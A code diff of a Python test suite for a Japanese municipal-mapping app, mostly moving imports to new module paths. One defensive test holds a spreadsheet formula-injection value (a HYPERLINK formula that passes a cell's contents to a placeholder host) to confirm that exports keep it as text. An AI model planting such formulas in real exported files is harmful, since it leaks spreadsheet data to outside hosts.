@@ -16,12 +16,14 @@ import pyogrio
 import pytest
 import shapely
 
-from geo_app import InputError, PlanError, dissolve, load_municipalities, load_plan
-from geo_app.datasets import CREDITS, VINTAGE
-from geo_app.export_layers import write_geojson, write_gpkg
-from geo_app.export_tables import write_summary_xlsx
-from geo_app.paths import safe_output_path
-from geo_app.printmap import font_file, missing_glyphs, write_print_map
+from geo_app.io.plans import plan_from_frame
+from geo_app import InputError, PlanError, load_municipalities, load_plan
+from geo_app.core.dissolve import dissolve
+from geo_app.io.datasets import CREDITS, VINTAGE
+from geo_app.views.layers import write_geojson, write_gpkg
+from geo_app.views.xlsx import write_summary_xlsx
+from geo_app.views.paths import safe_output_path
+from geo_app.views.printmap import font_file, missing_glyphs, write_print_map
 
 HOKKAIDO_TOTAL = 5_224_614
 
@@ -77,7 +79,7 @@ def test_font_is_packaged_ipaex_and_covers_all_embedded_names():
     path = Path(font_file())
     assert path.name == "ipaexg.ttf"
     assert path.resolve().is_relative_to(Path(matplotlib_fontja.__file__).resolve().parent)
-    from geo_app import datasets
+    from geo_app.io import datasets
 
     names = pd.read_parquet(datasets.boundaries_path(), columns=["N03_001", "N03_002", "N03_003", "N03_004"])
     plans = pd.read_csv(datasets.plans_dir() / "secondary-2020.csv", dtype=str).fillna("")
@@ -281,21 +283,20 @@ def test_geojson_rfc7946(hokkaido, tmp_path):
     assert back.crs.to_epsg() == 4326
     polys = shapely.get_parts(back.geometry.values)
     assert shapely.is_ccw(shapely.get_exterior_ring(polys)).all()  # RFC 7946 §3.1.6 right-hand rule
-    from geo_app.geometry import EQUAL_AREA_CRS
+    from geo_app.core.geometry import EQUAL_AREA_CRS
 
     assert np.isclose(back.to_crs(EQUAL_AREA_CRS).area.sum(), areas.to_crs(EQUAL_AREA_CRS).area.sum(), rtol=1e-6)
 
 
 def test_print_map_area_only_on_omitted_islands_is_listed_in_key(tmp_path, monkeypatch):
-    import geo_app.printmap as pm
-    from geo_app import Plan
+    import geo_app.views.extent as extent
 
     munis, plan = _secondary("東京都")
     table = plan.to_frame()
     table.loc[table["name"] == "小笠原村", "homecare"] = "小笠原"
-    plan = Plan.from_frame(table, name="東京都 テスト")
-    monkeypatch.setattr(pm, "MAX_INSETS", 1)  # only 伊豆 gets an inset; 小笠原 goes to the note
-    r = pm.write_print_map(munis, plan, tmp_path / "t.png", level="homecare")
+    plan = plan_from_frame(table, name="東京都 テスト")
+    monkeypatch.setattr(extent, "MAX_INSETS", 1)  # only 伊豆 gets an inset; 小笠原 goes to the note
+    r = write_print_map(munis, plan, tmp_path / "t.png", level="homecare")
     assert [i["municipalities"][0] for i in r["insets"]] == ["大島町"]
     assert r["labels_offmap"] == ["小笠原"]
     assert "小笠原" not in r["labels_placed"] + r["labels_in_key"]
@@ -310,8 +311,8 @@ def test_names_that_look_like_formulas_stay_text_and_round_trip(tmp_path, hokkai
     munis, hokkaido_plan = hokkaido
     from geo_app import load_plan
     from geo_app.app.page_plans import plan_csv_bytes, plan_xlsx_bytes
-    from geo_app.export_tables import write_summary_xlsx
-    from geo_app.plans import Plan
+    from geo_app.views.xlsx import write_summary_xlsx
+    from geo_app.core.plan import Plan
 
     formula = '=HYPERLINK("http://example.invalid/?x="&A2,"詳細")'
     t = hokkaido_plan.table.copy()
@@ -331,7 +332,7 @@ def test_names_that_look_like_formulas_stay_text_and_round_trip(tmp_path, hokkai
 
 def test_dollar_signs_in_names_are_text_not_tex(tmp_path, hokkaido):
     munis, plan = hokkaido
-    from geo_app.plans import Plan
+    from geo_app.core.plan import Plan
 
     t = plan.table.copy()
     t.loc[t["homecare"] == "上川", "homecare"] = r"東部$\frac$"
